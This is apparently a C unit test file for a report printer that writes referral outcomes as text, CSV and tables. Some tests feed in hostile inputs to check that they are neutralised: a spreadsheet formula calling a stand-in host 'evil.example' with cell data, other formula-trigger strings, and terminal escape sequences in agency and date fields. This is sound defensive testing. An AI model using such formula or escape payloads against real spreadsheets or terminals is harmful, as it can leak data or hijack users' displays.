/* The outcomes report as text: durations, withheld cells, CSV quoting. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "report_text.h"

Test(report_text, durations_read_as_their_band)
{
	static const struct {
		int64_t s;
		const char *text;
	} cases[] = {{900, "15m"},  {3600, "1h"},     {14400, "4h"},
	             {86400, "1d"}, {7776000, "90d"}, {7776001, ">90d"}};
	char buf[16];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		report_text_duration(cases[i].s, buf, sizeof(buf));
		cr_expect_str_eq(buf, cases[i].text);
	}
}

/* Print r as CSV into a string (malloc'd). */
static char *csv_of(const Refex__Report *r)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	cr_assert_not_null(f);
	report_print_csv(f, r);
	fclose(f);
	return buf;
}

Test(report_text, csv_quotes_what_people_wrote_and_leaves_withheld_cells_empty)
{
	Refex__ReportReason reason = REFEX__REPORT_REASON__INIT, *reasons[] = {&reason};
	Refex__ReportRow row = REFEX__REPORT_ROW__INIT, *rows[] = {&row};
	Refex__Report r = REFEX__REPORT__INIT;
	char *suppressed[] = {"sent"}, *csv, *line;
	char cells[REPORT_TEXT_COLS][REPORT_TEXT_CELL];

	reason.reason = "full, \"really\"";
	reason.has_count = 1;
	reason.count = 3;
	row.has_direction = 1;
	row.direction = REFEX__REPORT_DIRECTION__REPORT_DIRECTION_RECEIVED;
	row.sender = "agency-b";
	row.recipient = "agency-a";
	row.form = "debt_advice";
	row.has_declined = 1;
	row.declined = 3;
	row.n_suppressed = 1;
	row.suppressed = suppressed;
	row.n_decline_reasons = 1;
	row.decline_reasons = reasons;
	r.has_scope = 1;
	r.scope = REFEX__REPORT_SCOPE__REPORT_SCOPE_OWN;
	r.has_min_count = 1;
	r.min_count = 5;
	r.n_rows = 1;
	r.rows = rows;
	csv = csv_of(&r);
	cr_assert_not_null(line = strstr(csv, "\r\n"));
	cr_expect_str_eq(line + 2, "received,agency-b,agency-a,debt_advice,,,,3,,,,,,,,,,,,,,,,"
	                           "\"full, \"\"really\"\": 3\",sent\r\n");
	free(csv);
	report_text_cells(&r, &row, cells);
	cr_expect_str_eq(cells[0], "received from");
	cr_expect_str_eq(cells[1], "agency-b");
	cr_expect_str_eq(cells[3], "<5", "a withheld count says so");
	cr_expect_str_eq(cells[4], "-", "an unknown one is a dash");
}

Test(report_text, csv_keeps_a_reason_that_looks_like_a_formula_as_text)
{
	Refex__ReportReason a = REFEX__REPORT_REASON__INIT, b = REFEX__REPORT_REASON__INIT;
	Refex__ReportReason *reasons[] = {&a, &b};
	Refex__ReportRow row = REFEX__REPORT_ROW__INIT, *rows[] = {&row};
	Refex__Report r = REFEX__REPORT__INIT;
	char *csv, *line;

	/* Another agency wrote these reasons: a spreadsheet must not run them. */
	a.reason = "=hyperlink(\"http://evil.example/\"&a1)";
	a.has_count = 1;
	a.count = 2;
	b.reason = "@sum(1)";
	b.has_count = 1;
	b.count = 1;
	row.has_direction = 1;
	row.direction = REFEX__REPORT_DIRECTION__REPORT_DIRECTION_SENT;
	row.sender = "agency-a";
	row.recipient = "agency-b";
	row.n_decline_reasons = 2;
	row.decline_reasons = reasons;
	r.n_rows = 1;
	r.rows = rows;
	csv = csv_of(&r);
	cr_assert_not_null(line = strstr(csv, "\r\n"));
	cr_expect(
	    strstr(line, ",\"'=hyperlink(\"\"http://evil.example/\"\"&a1): 2; @sum(1): 1\",") !=
	        NULL,
	    "a formula-like reason gets a leading quote: %s", line + 2);
	free(csv);
	a.reason = "+1 no capacity";
	b.reason = "-";
	csv = csv_of(&r);
	cr_expect(strstr(csv, ",'+1 no capacity: 2; -: 1,") != NULL, "unquoted too: %s", csv);
	free(csv);
}

/* What the hub sent for the heading is printed as text: control codes become '?'. */
Test(report_text, the_table_heading_holds_no_control_codes_from_the_hub)
{
	Refex__Report r = REFEX__REPORT__INIT;
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	r.scope = REFEX__REPORT_SCOPE__REPORT_SCOPE_OWN;
	r.agency = "agency-a\x1b]0;owned\x07";
	r.from_day = "2026-01-01\x1b[2J";
	r.to_day = "2026-03-31";
	cr_assert_not_null(out);
	report_print_table(out, &r);
	fclose(out);
	cr_expect_null(strchr(buf, '\x1b'), "an escape reached the terminal: %s", buf);
	cr_expect(strstr(buf, "agency-a?]0;owned?, referrals sent 2026-01-01?[2J to 2026-03-31") !=
	              NULL,
	          "%s", buf);
	free(buf);
}
